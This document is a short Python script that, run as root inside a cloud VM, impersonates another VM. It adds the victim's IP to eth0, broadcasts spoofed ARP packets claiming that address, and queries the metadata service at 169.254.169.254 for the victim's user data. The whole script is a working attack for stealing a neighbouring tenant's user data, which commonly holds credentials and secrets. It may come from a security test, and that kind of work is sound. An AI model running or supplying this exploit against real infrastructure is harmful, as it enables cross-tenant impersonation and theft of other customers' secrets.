"""What root of a VM does to be taken for another VM. Runs inside the VM: standard library only.

Takes the other's address; prints JSON: what the metadata service said to a question from that address, "" for nothing.
"""

import contextlib
import fcntl
import json
import socket
import struct
import sys

SIOCSIFADDR, SIOCGIFHWADDR = 0x8916, 0x8927
CARD, METADATA, EVERYBODY = "eth0", "169.254.169.254", b"\xff" * 6
ETHERTYPE_ARP, REQUEST, REPLY = 0x0806, 1, 2


def add_address(address: str) -> None:
    """Give the card the address besides its own."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
        reported = struct.pack("16sHH4s8x", f"{CARD}:1".encode(), socket.AF_INET, 0, socket.inet_aton(address))
        fcntl.ioctl(control, SIOCSIFADDR, reported)


def claim_by_arp(address: str) -> None:
    """Tell everybody on the wire that the address is here."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((CARD, ETHERTYPE_ARP))
        mac = fcntl.ioctl(wire, SIOCGIFHWADDR, struct.pack("24s8x", CARD.encode()))[18:24]
        ip = socket.inet_aton(address)
        for operation in (REQUEST, REPLY):
            head = struct.pack("!6s6sHHHBBH", EVERYBODY, mac, ETHERTYPE_ARP, 1, 0x0800, 6, 4, operation)
            wire.send(head + mac + ip + EVERYBODY + ip)


def ask_metadata(address: str) -> str:
    """The user data of the VM to which the service assigns the address."""
    answer = b""
    with contextlib.suppress(OSError), socket.socket() as connection:
        connection.settimeout(3)
        connection.bind((address, 0))
        connection.connect((METADATA, 80))
        connection.sendall(b"GET /latest/user-data HTTP/1.0\r\n\r\n")
        while more := connection.recv(65536):
            answer += more
    return answer.decode()


def main(address: str) -> None:
    add_address(address)
    reported = []
    for _ in range(3):
        claim_by_arp(address)
        reported.append(ask_metadata(address))
    sys.stdout.write(json.dumps("".join(reported)))


main(sys.argv[1])
